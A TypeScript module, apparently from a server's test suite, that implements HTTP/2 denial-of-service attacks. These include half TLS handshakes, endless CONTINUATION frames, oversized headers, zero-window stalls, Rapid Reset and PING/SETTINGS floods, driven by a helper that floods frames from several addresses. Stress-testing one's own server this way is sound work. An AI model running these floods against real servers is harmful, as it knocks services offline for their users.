import { once } from 'node:events'
import type { TLSSocket } from 'node:tls'
import {
  CANCEL,
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  field,
  frame,
  HEADERS,
  head,
  openRaw,
  PING,
  RST_STREAM,
  SETTINGS,
} from '../../support/http2-frames.ts'
import { addressOf, dial, hold, range, sleep, type Target } from './send.ts'

/** Milliseconds that the frames of one attack keep coming, unless the server ends the connections before. */
const LASTS = (scale: number) => 800 + 220 * scale
const FRAMES_AT_ONCE = 20

const WHOLE = END_HEADERS | END_STREAM
const LONG_FIELD = field('x', 'v'.repeat(4000))
const NOTHING = Buffer.alloc(0)

/** What a client may do to a server over HTTP/2, and before it. */
export const HTTP2_ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  'half TLS handshakes': async (target) => {
    const sockets = range(200 * target.scale).map((n) => dial(target, n))
    // The first bytes of a ClientHello of 512 bytes.
    for (const socket of sockets) socket.write(Buffer.from('16030102000100', 'hex'))
    await hold(sockets, LASTS(target.scale))
  },
  'heads that never end': (target) =>
    flood(target, (n) =>
      n === 0 ? frame(HEADERS, 0, 1, head('/online.png')) : frame(CONTINUATION, 0, 1, LONG_FIELD),
    ),
  'heads of 15 kB': (target) =>
    flood(target, (n) =>
      frame(HEADERS, WHOLE, streamOf(n), head('/healthz', field('x', 'v'.repeat(15_000)))),
    ),
  'bodies that never arrive': (target) =>
    flood(target, (n) => frame(HEADERS, END_HEADERS, streamOf(n), head('/traffic-light/main/click'))),
  'pages for a window of 0 bytes': (target) =>
    flood(target, (n) => frame(HEADERS, WHOLE, streamOf(n), head('/', field('accept', 'text/html'))), 0),
  'streams for a window of 0 bytes': (target) =>
    flood(target, (n) => frame(HEADERS, WHOLE, streamOf(n), head('/sine/w.png?delivery=stream')), 0),
  'rapid reset of stills': (target) =>
    flood(target, (n) =>
      Buffer.concat([
        frame(HEADERS, WHOLE, streamOf(n), head(`/sine/reset${n % 50}.png?delivery=still`)),
        frame(RST_STREAM, 0, streamOf(n), CANCEL),
      ]),
    ),
  'pings and settings': (target) =>
    flood(target, (n) => (n % 2 === 0 ? frame(PING, 0, 0, Buffer.alloc(8)) : frame(SETTINGS, 0, 0, NOTHING))),
}

function streamOf(n: number): number {
  return 1 + 2 * n
}

/** Sends frames on some connections of different addresses, as fast as they are taken. */
async function flood(target: Target, next: (n: number) => Buffer, window?: number): Promise<void> {
  const until = performance.now() + LASTS(target.scale)
  await Promise.all(
    range(3 * target.scale).map(async (serial) => {
      const socket = await openRaw(target.port, window, addressOf(serial))
      for (let n = 0; performance.now() < until && socket.writable; n += FRAMES_AT_ONCE) {
        const frames = range(FRAMES_AT_ONCE).map((index) => next(n + index))
        if (!socket.write(Buffer.concat(frames))) await drained(socket, until)
        await new Promise(setImmediate)
      }
      if (socket.writable) await sleep(Math.max(0, until - performance.now()))
      socket.destroy()
    }),
  )
}

/** Resolves when more can be written, when the socket is closed, or at a time. */
async function drained(socket: TLSSocket, until: number): Promise<void> {
  const over = new AbortController()
  const { signal } = over
  await Promise.race([
    ...['drain', 'close', 'error'].map((event) => once(socket, event, { signal })),
    sleep(Math.max(0, until - performance.now())),
  ]).catch(() => {})
  over.abort()
}
